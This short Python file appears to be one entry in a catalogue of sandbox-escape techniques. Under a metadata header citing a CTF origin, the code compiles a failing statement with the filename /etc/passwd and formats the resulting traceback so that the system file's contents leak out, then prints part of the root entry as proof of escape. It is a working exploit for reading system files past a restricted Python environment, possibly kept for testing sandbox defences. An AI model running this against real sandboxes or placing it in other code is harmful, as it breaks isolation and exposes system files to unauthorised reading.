# escape: 038
# technique: code object with co_filename=/etc/passwd; formatting its traceback prints that file's line
# family: dfile
# goal: read-file
# first-seen: CTF (compile filename trick); variation
import traceback
try: exec(compile('1/0', '/etc/passwd', 'exec'))
except ZeroDivisionError: s = traceback.format_exc()
if 'root:' in s: print('ESCAPED:' + s.split('root:')[1][:8])
